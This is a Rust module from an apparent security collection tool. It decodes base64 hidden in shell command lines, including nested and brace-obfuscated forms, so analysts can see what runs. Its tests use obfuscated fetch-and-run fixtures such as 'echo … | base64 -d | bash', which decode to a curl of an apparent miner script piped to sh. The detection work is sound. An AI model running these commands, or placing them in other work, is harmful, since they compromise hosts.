//! Base64 within command lines, decoded so that a reader and a playbook see what runs.

use super::unquote;
use crate::collect::content::content;

/// How deep encodings within encodings are followed.
const DEPTH: u32 = 3;
/// Shorter runs decode to something by chance, unless the line itself speaks of base64.
const LONG: usize = 24;
const SHORT: usize = 8;
/// Bytes of a decoded command that are kept.
const MOST: usize = 64 << 10;

/// The command with its base64 parts decoded and tricks of quoting undone; `None` where it has
/// neither. A pipeline that decodes, as `echo … | base64 -d | sh`, gives way to the plain text;
/// elsewhere only the part does.
pub(in crate::collect) fn decoded(command: &[u8]) -> Option<Vec<u8>> {
    let mut now = step(command)?;
    for _ in 1..DEPTH {
        match step(&now) {
            Some(next) => now = next,
            None => break,
        }
    }
    Some(now)
}

fn step(command: &[u8]) -> Option<Vec<u8>> {
    match unquote::plain(command) {
        Some(plain) => Some(once(&plain).unwrap_or(plain)),
        None => once(command),
    }
}

fn once(command: &[u8]) -> Option<Vec<u8>> {
    // A long token in `a; b` is decoded on its own; what names the decoder may stand in either.
    let least = if speaks_of_it(command) { SHORT } else { LONG };
    let mut out = Vec::with_capacity(command.len());
    let mut rest = command;
    let mut any = false;
    while !rest.is_empty() && out.len() < MOST {
        let (pipeline, after) = rest.split_at_checked(pipeline(rest)).unwrap_or((rest, b""));
        let (separator, after) = after.split_at_checked(separator(after)).unwrap_or((after, b""));
        match parts(pipeline, least) {
            Some(found) => {
                any = true;
                out.extend_from_slice(&found);
            }
            None => out.extend_from_slice(pipeline),
        }
        out.extend_from_slice(separator);
        rest = after;
    }
    out.truncate(MOST);
    any.then_some(out)
}

/// Bytes up to the end of the first pipeline.
fn pipeline(command: &[u8]) -> usize {
    let mut at = 0;
    while let Some(rest) = command.get(at..).filter(|rest| !rest.is_empty()) {
        if separator(rest) > 0 {
            break;
        }
        at += 1;
    }
    at
}

/// Bytes of the separator between pipelines that stands here, blanks after it included.
fn separator(rest: &[u8]) -> usize {
    let word = match rest {
        [b';' | b'\n', ..] => 1,
        [b'&', b'&', ..] | [b'|', b'|', ..] => 2,
        _ => return 0,
    };
    word + rest.iter().skip(word).take_while(|b| b.is_ascii_whitespace()).count()
}

/// One pipeline with its base64 decoded: the plain text alone where the pipeline names a decoder.
fn parts(pipeline: &[u8], least: usize) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(pipeline.len());
    let mut alone: Vec<Vec<u8>> = Vec::new();
    let mut rest = pipeline;
    while let Some((&byte, tail)) = rest.split_first() {
        let run = rest.iter().take_while(|b| symbol(**b).is_some()).count();
        if run == 0 {
            out.push(byte);
            rest = tail;
            continue;
        }
        let (token, after) = rest.split_at_checked(run).unwrap_or((rest, b""));
        let padding = after.iter().take_while(|b| **b == b'=').count().min(2);
        match (run >= least).then(|| plain(token)).flatten() {
            Some(plain) => {
                out.extend_from_slice(&plain);
                alone.push(plain);
                rest = after.get(padding..).unwrap_or_default();
            }
            None => {
                out.extend_from_slice(token);
                rest = after;
            }
        }
    }
    if alone.is_empty() {
        return None;
    }
    if !speaks_of_it(pipeline) {
        return Some(out);
    }
    // The blanks at the end belong to what follows.
    let blanks = pipeline.iter().rev().take_while(|b| b.is_ascii_whitespace()).count();
    let mut plain = alone.join(&b' ');
    plain.extend_from_slice(pipeline.get(pipeline.len() - blanks..).unwrap_or_default());
    Some(plain)
}

fn speaks_of_it(command: &[u8]) -> bool {
    let lower = command.to_ascii_lowercase();
    [&b"base64"[..], b"b64", b"openssl enc"]
        .iter()
        .any(|word| memchr::memmem::find(&lower, word).is_some())
}

/// What a token decodes to, where that is text, or the name of what it is, where its magic is
/// known. Anything else is a path or an identifier that only looks like base64.
fn plain(token: &[u8]) -> Option<Vec<u8>> {
    let bytes = decode(token)?;
    let text = std::str::from_utf8(&bytes)
        .ok()
        .filter(|text| text.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r')));
    if let Some(text) = text {
        return Some(text.as_bytes().to_vec());
    }
    let word = content(&bytes);
    let known = !matches!(word, "data" | "text" | "empty");
    known.then(|| format!("[{} bytes: {word}]", bytes.len()).into_bytes())
}

/// Decodes the standard and the URL alphabet; padding is optional, stray bits are dropped as
/// `base64 -d` drops them.
fn decode(token: &[u8]) -> Option<Vec<u8>> {
    if token.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(token.len() / 4 * 3 + 2);
    for four in token.chunks(4) {
        let mut bits = 0_u32;
        for byte in four {
            bits = bits << 6 | symbol(*byte)?;
        }
        bits <<= 6 * (4 - four.len());
        let [_, bytes @ ..] = bits.to_be_bytes();
        out.extend(bytes.iter().take(four.len() - 1));
    }
    Some(out)
}

fn symbol(byte: u8) -> Option<u32> {
    let value = match byte {
        b'A'..=b'Z' => byte - b'A',
        b'a'..=b'z' => byte - b'a' + 26,
        b'0'..=b'9' => byte - b'0' + 52,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    };
    Some(u32::from(value))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn text(command: &str) -> Option<String> {
        decoded(command.as_bytes()).map(|d| String::from_utf8_lossy(&d).into_owned())
    }

    #[test]
    fn parts_of_commands() {
        assert_eq!(
            text(
                "echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g= | base64 -d | bash"
            )
            .as_deref(),
            Some("curl -fsSL http://198.51.100.23/xmr.sh|sh")
        );
        // A whole line, without a word of base64.
        assert_eq!(
            text("Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g").as_deref(),
            Some("curl -fsSL http://198.51.100.23/xmr.sh|sh")
        );
        // base64 of `echo aWQgPiAvdG1wL3g= | base64 -d | sh`, which holds `id > /tmp/x`.
        assert_eq!(
            text("base64 -d <<< ZWNobyBhV1FnUGlBdmRHMXdMM2c9IHwgYmFzZTY0IC1kIHwgc2g=|sh")
                .as_deref(),
            Some("id > /tmp/x")
        );
        assert_eq!(
            text("echo f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA | base64 -d > /tmp/x").as_deref(),
            Some("[24 bytes: elf]")
        );
        assert_eq!(
            text("cd /tmp; echo aWQgPiAvdG1wL3g= | base64 -d | sh && rm -f x").as_deref(),
            Some("cd /tmp; id > /tmp/x && rm -f x")
        );
        assert_eq!(
            text("bash -c {echo,Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g=}|{base64,-d}|{bash,-i}")
                .as_deref(),
            Some("curl -fsSL http://198.51.100.23/xmr.sh|sh")
        );
        // No decoder is named: the part alone gives way.
        assert_eq!(
            text("/opt/x --run=Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g= --now")
                .as_deref(),
            Some("/opt/x --run=curl -fsSL http://198.51.100.23/xmr.sh|sh --now")
        );
    }

    #[test]
    fn paths_and_identifiers_are_left_alone() {
        for command in [
            "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron",
            "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
            "/usr/libexec/systemd/systemd-sysupdate-very-long-name-of-a-program-x",
            "0123456789abcdef0123456789abcdef0123456789abcdef",
        ] {
            assert_eq!(text(command), None, "{command}");
        }
    }

    proptest! {
        #[test]
        fn any_bytes(bytes: Vec<u8>) {
            let _ = decoded(&bytes);
        }

        #[test]
        fn nearly_base64(text in "base64 ([A-Za-z0-9+/]{0,64}={0,3} ?){0,8}") {
            prop_assert!(decoded(text.as_bytes()).is_none_or(|d| d.len() <= MOST));
        }
    }
}
